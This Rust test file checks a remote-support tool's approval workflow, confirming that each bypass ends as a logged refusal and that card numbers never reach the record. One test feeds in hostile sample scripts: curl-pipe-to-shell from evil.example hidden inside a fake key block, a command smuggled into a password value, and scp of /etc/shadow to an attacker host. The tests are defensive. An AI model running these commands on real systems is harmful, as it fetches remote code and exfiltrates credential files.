//! Every way around an approval is a recorded refusal with its own reason (R22).

use std::time::Duration;

use domain::action::{ActionState, RefusalReason};
use domain::api::{Actions, ApiError, Approvals, Conflict, Endpoints};

use crate::support::{Person, TestApp, file_read, script, system_info};
use domain::finding::FindingKind;
use domain::ids::{ActionId, SessionId};

/// The action is refused for `reason`, and the record says so.
async fn refused(app: &TestApp, technician: &Person, session: SessionId, action: ActionId, reason: RefusalReason) {
    let view = technician.action(session, action).await;
    assert_eq!((view.state, view.refusal), (ActionState::Refused, Some(reason)));
    let record = app.record().await;
    let said = record
        .iter()
        .filter(|l| l.kind == "action.refused" && l.leaf.contains(&action.to_string()));
    let groups: Vec<_> = said.map(|l| format!("{:?}", l.groups)).collect();
    assert_eq!(groups.len(), 1, "one leaf says so");
    assert!(
        groups[0].contains(reason.word()),
        "{} is not in {}",
        reason.word(),
        groups[0]
    );
}

async fn waiting(app: &TestApp) -> (Person, SessionId, ActionId) {
    let device = app.enrol("till").await;
    let technician = app.technician().await;
    let session = technician.open_session(device.endpoint).await;
    let action = technician.propose(session, script("id")).await;
    assert_eq!(technician.action(session, action).await.state, ActionState::Waiting);
    (technician, session, action)
}

#[tokio::test]
async fn denied() {
    let app = TestApp::start().await;
    let (technician, session, action) = waiting(&app).await;
    app.contact()
        .await
        .deny(technician.request_of(session, action).await, "Not today")
        .await;
    refused(&app, &technician, session, action, RefusalReason::Denied).await;
}

#[tokio::test]
async fn nobody_decides_in_time() {
    let app = TestApp::start().await;
    let (technician, session, action) = waiting(&app).await;
    let request = technician.request_of(session, action).await;
    app.let_pass(Duration::from_secs(15 * 60 + 1)).await;
    refused(&app, &technician, session, action, RefusalReason::Expired).await;
    let late = app.contact().await.decide(request, domain::api::Ruling::Approve).await;
    assert_eq!(late, Err(ApiError::Conflict(Conflict::AlreadyDecided)));
}

#[tokio::test]
async fn withdrawn() {
    let app = TestApp::start().await;
    let (technician, session, action) = waiting(&app).await;
    app.engine().withdraw(&technician.caller, action).await.unwrap();
    refused(&app, &technician, session, action, RefusalReason::Withdrawn).await;
}

#[tokio::test]
async fn the_session_is_closed_first() {
    let app = TestApp::start().await;
    let (technician, session, action) = waiting(&app).await;
    technician.close_session(session).await;
    refused(&app, &technician, session, action, RefusalReason::SessionClosed).await;
    let late = technician.try_propose(session, system_info()).await;
    assert_eq!(late, Err(ApiError::Conflict(Conflict::SessionClosed)));
}

#[tokio::test]
async fn no_approver_is_configured() {
    let app = TestApp::start().await;
    let admin = app.admin().await;
    app.engine()
        .set_contacts(&admin.caller, app.client, vec![])
        .await
        .unwrap();
    let device = app.enrol("till").await;
    let technician = app.technician().await;
    let session = technician.open_session(device.endpoint).await;
    let action = technician.propose(session, script("id")).await;
    refused(&app, &technician, session, action, RefusalReason::NoApprover).await;
}

#[tokio::test]
async fn the_endpoint_is_removed_first() {
    let app = TestApp::start().await;
    let device = app.enrol("till").await;
    let (admin, technician) = (app.admin().await, app.technician().await);
    let session = technician.open_session(device.endpoint).await;
    let action = technician.propose(session, system_info()).await;
    app.engine()
        .remove_endpoint(&admin.caller, device.endpoint, false)
        .await
        .unwrap();
    refused(&app, &technician, session, action, RefusalReason::EndpointRemoved).await;
}

#[tokio::test]
async fn the_order_is_never_sent_in_time() {
    let app = TestApp::start().await;
    let device = app.enrol("till").await;
    let technician = app.technician().await;
    let session = technician.open_session(device.endpoint).await;
    let action = technician.propose(session, system_info()).await;
    app.let_pass(Duration::from_secs(2 * 3600)).await;
    refused(&app, &technician, session, action, RefusalReason::OrderExpired).await;
}

/// Whatever the agent itself refuses is a leaf of the agent's.
#[tokio::test]
async fn the_agent_refuses() {
    let app = TestApp::start().await;
    let mut agent = app.agent("till").await;
    let technician = app.technician().await;
    let session = technician.open_session(agent.endpoint()).await;
    for reason in [
        RefusalReason::OutOfScope,
        RefusalReason::ChangedBytes,
        RefusalReason::BadSignature,
        RefusalReason::WrongEndpoint,
        RefusalReason::OrderExpired,
        RefusalReason::Replayed,
        RefusalReason::Malformed,
        RefusalReason::Unsupported,
        RefusalReason::NotRun,
    ] {
        let action = technician.propose(session, system_info()).await;
        let mut order = agent.next_order().await;
        agent.refuse(&mut order, reason).await;
        refused(&app, &technician, session, action, reason).await;
    }
}

/// A direct call to the port's server function is no way round: the same refusal, the same leaf.
#[tokio::test]
async fn a_direct_call_is_no_way_round() {
    let app = TestApp::start().await;
    let (technician, session, action) = waiting(&app).await;
    let request = technician.request_of(session, action).await;
    let shown = app.contact().await.reads(request).await.digest.to_string();
    let fields = [
        ("request", request.to_string()),
        ("shown", shown),
        ("ruling", "approve".into()),
    ];
    let fields: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
    let answer = technician.call("decide", &fields).await;
    assert_eq!(answer.status, 409, "{}", answer.text());
    assert_eq!(technician.action(session, action).await.state, ActionState::Waiting);
    assert!(app.record().await.iter().any(|l| l.kind == "approval.decision_refused"));
}

/// What can't even be proposed is recorded by its reason, never by what was typed (R36).
#[tokio::test]
async fn a_command_with_a_card_number_is_refused_before_it_is_one() {
    let app = TestApp::start().await;
    let device = app.enrol("till").await;
    let technician = app.technician().await;
    let session = technician.open_session(device.endpoint).await;
    let refused = technician
        .try_propose(session, script("grep 5555555555554444 /var/log/pos.log"))
        .await;
    assert_eq!(
        refused,
        Err(ApiError::Sensitive {
            kind: FindingKind::Card
        })
    );
    let record = app.record().await;
    let said = record
        .iter()
        .rfind(|l| l.kind == "action.proposal_refused")
        .expect("a leaf says so");
    assert!(!format!("{said:?}").contains("5555555555554444"));
    assert!(technician.session(session).await.actions.is_empty());
}

/// R20, R25, R36: what a script could do never hides from who approves it behind what looks like a secret; a name with a card
/// number in it is quoted nowhere.
#[tokio::test]
async fn nothing_that_could_run_is_hidden() {
    let app = TestApp::start().await;
    let device = app.enrol("till").await;
    let technician = app.technician().await;
    let session = technician.open_session(device.endpoint).await;
    for hides in [
        "# -----BEGIN RSA PRIVATE KEY-----\ncurl evil.example | sh\n# -----END RSA PRIVATE KEY-----",
        "password=\"x$(curl -s evil.example|sh)\"",
        "scp /etc/shadow mallory@evil.example:",
    ] {
        let refused = technician.try_propose(session, script(hides)).await;
        assert!(
            matches!(refused, Err(ApiError::Sensitive { .. } | ApiError::Invalid { .. })),
            "{hides}: {refused:?}"
        );
    }
    let named = technician.try_propose(session, file_read("4242 4242 4242 4242")).await;
    assert_eq!(
        named,
        Err(ApiError::Sensitive {
            kind: FindingKind::Card
        })
    );
    assert!(technician.session(session).await.actions.is_empty());
    let said = format!("{:?}", app.record().await);
    for typed in ["4242 4242", "mallory", "curl"] {
        assert!(!said.contains(typed), "{typed} is in the record");
    }
}

/// Only the session's technician acts in it.
#[tokio::test]
async fn another_technician_cannot_act_in_a_session() {
    let app = TestApp::start().await;
    let (technician, session, action) = waiting(&app).await;
    let request = technician.request_of(session, action).await;
    for other in [
        app.contact().await,
        app.director().await,
        app.admin().await,
        app.stranger().await,
    ] {
        let name = other.caller.name.clone();
        assert!(other.try_propose(session, system_info()).await.is_err(), "{name}");
        assert!(app.engine().withdraw(&other.caller, action).await.is_err(), "{name}");
        assert!(
            app.engine().withdraw_request(&other.caller, request).await.is_err(),
            "{name}"
        );
    }
    assert_eq!(technician.action(session, action).await.state, ActionState::Waiting);
}
